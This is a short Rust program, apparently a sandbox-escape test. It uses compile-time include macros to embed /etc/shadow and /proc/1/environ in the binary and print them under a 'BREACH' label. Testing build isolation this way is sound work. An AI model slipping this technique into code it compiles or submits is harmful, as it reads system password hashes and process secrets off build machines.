// The compiler puts files of root's into the program, which prints them.
const SHADOW: &str = include_str!("/etc/shadow");
const ENVIRONMENT: &[u8] = include_bytes!("/proc/1/environ");

fn main() {
    println!("BREACH: {} {}", SHADOW, ENVIRONMENT.len());
}
